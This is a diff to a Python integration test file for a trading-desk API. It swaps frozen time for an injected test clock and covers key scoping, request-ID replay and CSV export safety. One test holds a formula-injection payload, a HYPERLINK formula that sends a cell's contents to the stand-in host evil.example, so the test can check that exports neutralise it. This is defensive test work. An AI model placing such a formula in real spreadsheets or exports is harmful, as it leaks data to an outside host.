@@ -11,15 +11,14 @@ from typing import Any
 
 import pytest
 from fastapi.testclient import TestClient
-from freezegun import freeze_time
 from sqlalchemy import Engine
 
 from aria.api.app import create_app
 from aria.service.keys import create_key, revoke_key
 from storage.engine import make_engine
-from tests.integration.conftest import make_context
+from tests.clocks import SettableClock
+from tests.databases import make_context
 
-NOW = "2026-06-02 09:00:00"
 STATE = {"balance": "100000", "equity": "100000", "as_of": "2026-06-02T08:59:00Z", "positions": []}
 SIGNAL = {"symbol": "GBPUSD", "side": "long", "entry": "1.2700", "stop": "1.2600"}
 
@@ -40,10 +39,10 @@ class Desk:
 
 
 @pytest.fixture
-def desk(database: tuple[str, Engine]) -> Iterator[Desk]:
+def desk(database: tuple[str, Engine], clock: SettableClock) -> Iterator[Desk]:
     url, engine = database
     second = make_engine(url)  # a second process's own engine and pool
-    context, other_context = make_context(engine), make_context(second)
+    context, other_context = make_context(engine, clock=clock), make_context(second, clock=clock)
     admin = create_key(context, "ops", ["admin"]).token
     alice = create_key(context, "alice-bot", ["size", "read"], owner="alice").token
     bob = create_key(context, "bob-bot", ["size", "read"], owner="bob").token
@@ -92,7 +91,6 @@ def test_metrics_are_refused_to_an_owner_limited_key(desk: Desk) -> None:
     assert desk.client.get("/metrics", headers=desk.admin).status_code == 200
 
 
-@freeze_time(NOW)
 def test_csv_exports_cannot_carry_a_formula_into_a_spreadsheet(desk: Desk) -> None:
     attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     context = make_context_of(desk)
@@ -117,7 +115,6 @@ def test_csv_exports_cannot_carry_a_formula_into_a_spreadsheet(desk: Desk) -> No
     assert not row["risk_amount"].startswith("'")
 
 
-@freeze_time(NOW)
 def test_request_ids_are_per_owner_and_a_replay_is_authorised_like_a_request(desk: Desk) -> None:
     alices = _size(desk.client, desk.alice, "shared-id", ["alice-1"])
     assert alices.status_code == 200, alices.text
@@ -144,7 +141,6 @@ def test_request_ids_are_per_owner_and_a_replay_is_authorised_like_a_request(des
     assert retried.json()["decisions"][0]["decision_id"] == decision_id
 
 
-@freeze_time(NOW)
 def test_a_refusal_names_no_account_of_another_owner(desk: Desk) -> None:
     named = _size(desk.client, desk.bob, "r-named", ["alice-1", "bob-1"])
     assert named.status_code == 404, named.text  # as unknown as a missing account
